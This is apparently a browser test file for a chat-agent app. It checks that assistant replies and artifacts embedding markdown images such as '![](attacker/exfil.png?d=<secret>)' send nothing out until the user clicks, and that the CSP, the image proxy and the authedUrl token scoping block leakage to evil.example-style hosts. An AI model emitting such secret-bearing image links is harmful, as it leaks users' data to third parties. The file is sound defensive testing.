"""The canvas page against markdown-image exfiltration, in Chromium: a reply and an artifact that
embed `![](http://attacker/p.png?d=<secret>)` send nothing to the attacker, live or after a reload,
until the user clicks; the click goes to our image proxy, never to the attacker from the browser
(and the proxy refuses a loopback address: SSRF rules). The CSP itself refuses such an image
even where markup slipped past the renderer. `authedUrl` hands the token to our own origin only."""

from __future__ import annotations

import threading
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Iterator

import pytest
from playwright.sync_api import expect

from tests.browser import assert_accessible, no_problems
from tests.fakes.anthropic_fake import Reply, Text, ToolUse

SECRET = "ALICE-SECRET-FROM-CHAT"
PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000")  # header is enough to count


class Attacker:
    """An HTTP listener on loopback that records every request it gets."""

    def __init__(self) -> None:
        hits = self.hits = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.end_headers()
                self.wfile.write(PNG)

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}"

    def __enter__(self) -> "Attacker":
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    with Attacker() as listener:
        yield listener


def _open(page, server) -> None:
    page.goto(server.http_url + "/")
    expect(page.locator("#connection")).to_have_text("connected")


def test_the_page_csp_allows_images_from_its_own_origin_only(server):
    with urllib.request.urlopen(server.http_url + "/") as response:
        csp = response.headers["Content-Security-Policy"]
    img = next(d for d in csp.split(";") if d.strip().startswith("img-src")).split()
    assert img == ["img-src", "'self'", "data:", "blob:"], csp


def test_images_in_replies_and_artifacts_wait_for_a_click(page, server, fake_anthropic, attacker):
    exfil = f"{attacker.url}/exfil.png?d={SECRET}"
    artifact = {"type": "text", "title": "Notes", "content": f"# Notes\n\n![chart]({attacker.url}/art.png?d={SECRET})\n"}
    fake_anthropic.enqueue(
        Reply([Text("Saving."), ToolUse("generate_artifact", artifact)], chunk_size=8),
        Reply(f"Here it is: ![x]({exfil}) and a [link]({attacker.url}/link?d={SECRET}).", chunk_size=5))
    proxied: list[str] = []
    page.on("request", lambda r: proxied.append(r.url) if "/api/image-proxy" in r.url else None)
    _open(page, server)
    page.fill("#prompt", "Summarize the document for me")
    page.press("#prompt", "Enter")
    reply = page.locator(".message.assistant .text").last
    expect(reply).to_contain_text("and a link")
    placeholder = reply.locator(".external-image")
    expect(placeholder).to_be_visible()
    expect(placeholder.locator("button")).to_have_text("Load image from " + attacker.url.split("//")[1])
    expect(page.locator("#artifact-view .doc .external-image")).to_be_visible()
    expect(page.locator("#artifact-view .doc img")).to_have_count(0)
    page.wait_for_load_state("networkidle")
    assert attacker.hits == []

    # After a reload the history is drawn again, from the server: still nothing loads.
    page.reload()
    expect(page.locator("#connection")).to_have_text("connected")
    expect(page.locator(".message.assistant .text .external-image")).to_have_count(1)
    expect(page.locator("#artifact-view .doc .external-image")).to_be_visible()
    page.wait_for_load_state("networkidle")
    assert attacker.hits == [] and proxied == []

    # The user clicks: the browser asks our proxy (never the third party), which refuses a
    # private address; the placeholder says why.
    page.locator(".message.assistant .text .external-image button").click()
    failed = page.locator(".message.assistant .text .external-image.failed button")
    expect(failed).to_contain_text("private or reserved network address")
    assert len(proxied) == 1 and "exfil.png" in proxied[0]
    assert attacker.hits == []
    assert_accessible(page)  # (before the test's own bare <img> below)

    # Markup that got past the renderer would still be refused by the CSP.
    violations = page.evaluate("""(url) => new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), {once: true});
        const img = new Image(); img.src = url; document.body.append(img);
    })""", f"{attacker.url}/csp.png?d={SECRET}")
    assert violations.startswith("img-src")
    page.wait_for_timeout(200)  # a request the CSP let through would have arrived by now
    assert attacker.hits == []
    no_problems(page, allowed=("Content Security Policy", "status of 400"))


def test_authed_url_gives_the_token_to_our_own_origin_only(page, server):
    _open(page, server)
    urls = page.evaluate("""async () => {
        localStorage.setItem('chat-agent.token', 'tok-secret');
        const { authedUrl } = await import('/static/api.js');
        return ['/api/uploads/abc', '/api/uploads/abc?x=1', '//evil.example/p.png', '/\\\\evil.example/p.png',
                'https://evil.example/p.png', location.origin + '/api/uploads/abc'].map(authedUrl);
    }""")
    assert urls[0].endswith("/api/uploads/abc?token=tok-secret") and urls[1].endswith("?x=1&token=tok-secret")
    assert urls[2:5] == ["//evil.example/p.png", "/\\evil.example/p.png", "https://evil.example/p.png"]
    assert urls[5].endswith("/api/uploads/abc?token=tok-secret")
    assert_accessible(page)
    no_problems(page)
